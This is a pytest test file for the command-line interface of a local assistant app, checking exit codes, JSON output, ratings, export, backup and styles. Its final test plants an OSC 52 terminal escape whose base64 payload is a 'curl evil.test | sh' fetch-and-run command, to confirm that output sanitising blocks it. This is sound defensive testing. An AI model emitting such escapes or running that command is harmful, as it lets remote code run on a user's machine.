"""The command line where no model is needed: exit codes, JSON, one sentence on failure."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from assistant.cli import main
from assistant.cli.reference import page
from assistant.paths import DataPaths
from assistant.records import Generation
from assistant.store import Store

ROOT = Path(__file__).resolve().parents[2]
RATINGS = [
    {"prompt": "Say hello", "reply": "Hello.", "rating": 1},
    {"prompt": "Say hello", "reply": "你好", "stars": 4},
    {"prompt": "Say hello", "chosen": "Hi!", "rejected": "Greetings, esteemed friend."},
]


def run(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    code = main(arguments, None)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def run_json(capsys: pytest.CaptureFixture[str], *arguments: str) -> dict[str, Any]:
    code, out, err = run(capsys, *arguments, "--json")
    assert code == 0, err
    assert out.count("\n") == 1
    return json.loads(out)  # type: ignore[no-any-return]


def fails(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    code, out, err = run(capsys, *arguments)
    assert code == 1 and out == ""
    assert "Traceback" not in err and err.strip().count("\n") == 0 and err.rstrip().endswith((".", ")"))
    return err


@pytest.fixture
def reply(attune_home: Path) -> str:
    """Id of a reply in the data folder."""
    with Store.open(DataPaths(attune_home)) as store:
        conversation = store.create_conversation(title="Trip to 京都")
        asked = store.add_message(conversation.id, None, "user", "Where is the dragon temple?")
        said = store.add_message(conversation.id, asked.id, "assistant", "", state="streaming")
        made = Generation("starter", None, 5, 3, 0.1, 50.0, "stop", 1)
        store.finish_message(said.id, "In the north of the city.", made)
        return said.id


WRONG = [
    ["nonsense"],
    ["chat"],
    ["models"],
    ["rate", "x", "sideways"],
    ["chat", "hi", "--seed", "-1"],
    ["chat", "hi", "--temperature", "nan"],
    ["chat", "hi", "--max-tokens", "0"],
    ["export", "f", "--format", "pdf"],
]


@pytest.mark.parametrize("arguments", WRONG)
def test_wrong_usage_is_2(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, *arguments)
    assert code == 2 and out == "" and err.strip().count("\n") == 0


def test_help_and_version_are_0(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "--help")[0] == 0
    code, out, _ = run(capsys, "--version")
    assert code == 0 and out.startswith("attune ") and "unknown" not in out


def test_the_reference_page_is_in_step() -> None:
    message = "python -m assistant.cli.reference > docs/commands.md"
    assert (ROOT / "docs" / "commands.md").read_text(encoding="utf-8") == page(), message


def test_the_window_opens_without_a_command(attune_home: Path) -> None:
    opened = []
    assert (
        main(["--offline", "--data-dir", str(attune_home / "x")], lambda options: opened.append(options) or 7)
        == 7
    )
    assert opened[0].offline and opened[0].paths.root == attune_home / "x"


def test_rating_and_searching(reply: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_json(capsys, "rate", reply, "up", "--note", "short")["value"] == 1
    assert run_json(capsys, "rate", reply, "2")["kind"] == "stars"
    for query in ("dragon", "京都", '"quo"ted OR NEAR('):
        hits = run_json(capsys, "search", query)["hits"]
        assert bool(hits) == (query != '"quo"ted OR NEAR(')
    assert "no" in fails(capsys, "rate", "0" * 32, "up").lower()


def test_ratings_go_out_and_in(attune_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source, target = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    source.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in RATINGS), encoding="utf-8")
    assert run_json(capsys, "ratings", "import", str(source))["imported"] == 3
    assert run_json(capsys, "ratings", "import", str(source))["imported"] == 0
    assert run_json(capsys, "ratings", "export", str(target))["exported"] == 3
    written = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    for wanted, got in zip(RATINGS, written, strict=True):
        assert wanted.items() <= got.items()


@pytest.mark.parametrize(
    "bad", ["not json", '{"prompt": 1}', '{"prompt": "a", "reply": "b", "rating": 7}', "[]"]
)
def test_bad_ratings_change_nothing(
    bad: str, attune_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text(json.dumps(RATINGS[0]) + "\n" + bad + "\n", encoding="utf-8")
    assert "2" in fails(capsys, "ratings", "import", str(source))  # the line's number
    assert run_json(capsys, "ratings", "export", str(tmp_path / "out.jsonl"))["exported"] == 0


def test_export_import_backup_restore(reply: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plain, saved = tmp_path / "all.json", tmp_path / "all.backup"
    assert run_json(capsys, "export", str(plain))["messages"] == 2
    for form in ("markdown", "html"):
        document = tmp_path / form
        assert run_json(capsys, "export", "--format", form, str(document))["conversations"] == 1
        assert "In the north of the city." in document.read_text(encoding="utf-8")
    run_json(capsys, "backup", str(saved))
    other = ["--data-dir", str(tmp_path / "with space 数据")]
    assert run_json(capsys, *other, "import", str(plain))["messages"] == 2
    assert run_json(capsys, *other, "search", "temple")["hits"]
    third = ["--data-dir", str(tmp_path / "third")]
    assert run_json(capsys, "restore", str(saved), *third)["messages"] == 2
    assert run_json(capsys, "search", "temple", *third)["hits"]


@pytest.mark.parametrize("command", [["import"], ["restore"], ["ratings", "import"], ["models", "add"]])
def test_files_that_are_not_there(
    command: list[str], attune_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fails(capsys, *command, str(attune_home / "nothing-here"))


def test_chat_refuses_bad_input_before_any_engine(
    attune_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "empty" in fails(capsys, "chat", "  ")
    text = tmp_path / "letter.png"
    text.write_text("no picture", encoding="utf-8")
    assert "letter.png is not a picture" in fails(capsys, "chat", "look", "--image", str(text))
    assert "conversation" in fails(capsys, "chat", "hi", "--conversation", "0" * 32)
    assert "no model called" in fails(capsys, "chat", "hi", "--model", "nothing-like-it")


def test_models_and_styles(attune_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    models = run_json(capsys, "models", "list")["models"]
    assert models[0]["id"] == "starter" and models[0]["installed"] is False
    assert run_json(capsys, "style", "list") == {"model": "starter", "current": None, "versions": []}
    assert run_json(capsys, "style", "off")["current"] is None
    fails(capsys, "style", "use", "v9")
    fails(capsys, "models", "remove", "nothing-like-it")
    fails(capsys, "models", "verify", "starter")


def test_doctor(attune_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["doctor", "--json"], None)
    report = json.loads(capsys.readouterr().out)
    assert code == (0 if report["ok"] else 1) and report["ok"] == (not report["problems"])
    assert report["torch"].startswith("2.13.0") and report["memory_bytes"] > 0
    assert report["data_folder"] == str(attune_home)


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_a_data_folder_that_cannot_be_written(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("in the way", encoding="utf-8")
    where = ["--data-dir", str(blocker / "data")]
    assert "data folder" in fails(capsys, "search", "x", *where).lower()
    assert "data folder" in fails(capsys, "chat", "hi", *where).lower()
    assert run(capsys, "doctor", *where)[0] == 1


def test_no_display_is_a_sentence(attune_home: Path) -> None:
    without = {
        k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM")
    }
    done = subprocess.run(
        [sys.executable, "-m", "ui.launch"], cwd=ROOT, env=without, capture_output=True, text=True, timeout=60
    )
    if sys.platform.startswith("linux"):
        assert done.returncode == 1 and "no display" in done.stderr and done.stderr.count("\n") == 1


def test_named_styles_are_made_taught_listed_reset_and_removed(
    capsys: pytest.CaptureFixture[str], attune_home: Path, tmp_path: Path
) -> None:
    assert run_json(capsys, "style", "new", "Work") == {"name": "Work"}
    assert run_json(capsys, "style", "names") == {"names": ["Work"]}
    file = tmp_path / "ratings.jsonl"
    file.write_text("\n".join(json.dumps(line) for line in RATINGS))
    assert run_json(capsys, "ratings", "import", str(file), "--for", "work")["imported"] == 3
    with Store.open(DataPaths(attune_home)) as store:
        assert {rating.line for rating in store.ratings()} == {"Work"}
        store.add_style("starter", style_id="o1", make_current=True)
        store.add_style("starter", style_id="w1", make_current=True, line="Work")
    listed = run_json(capsys, "style", "list", "--for", "Work")
    assert [v["id"] for v in listed["versions"]] == ["w1"] and listed["current"] == "w1"
    assert [v["id"] for v in run_json(capsys, "style", "list")["versions"]] == ["o1"]
    assert run_json(capsys, "style", "off", "--for", "Work")["current"] is None
    assert run_json(capsys, "style", "use", "w1")["current"] == "w1"
    assert run_json(capsys, "style", "show", "--for", "Work")["line"] == "Work"
    assert run_json(capsys, "style", "show")["id"] == "o1"
    assert "no style called Home" in fails(capsys, "style", "list", "--for", "Home")
    assert "no style called Home" in fails(capsys, "learn", "--for", "Home")
    assert run_json(capsys, "style", "reset", "--for", "Work")["removed"] == ["w1"]
    assert run_json(capsys, "style", "remove", "work") == {"name": "Work", "removed": ["w1"]}
    assert run_json(capsys, "style", "names") == {"names": []}
    with Store.open(DataPaths(attune_home)) as store:
        assert store.current_style("starter") == "o1"


OSC_52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # puts a command into the clipboard


def test_nothing_from_a_chat_steers_the_terminal(
    attune_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = f"dragon {OSC_52}\x1b[2J\x9b31m\r temple"
    with Store.open(DataPaths(attune_home)) as store:
        conversation = store.create_conversation(title=evil)
        store.add_message(conversation.id, None, "user", evil)
    for arguments in (["search", "dragon"], ["search", "dragon", "--json"], ["search", evil]):
        code, out, err = run(capsys, *arguments)
        assert code == 0
        assert not [c for c in out + err if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160)]
    assert evil in run_json(capsys, "search", "dragon")["hits"][0]["title"]
    assert "\x1b" not in fails(capsys, "rate", f"x{OSC_52}", "up")
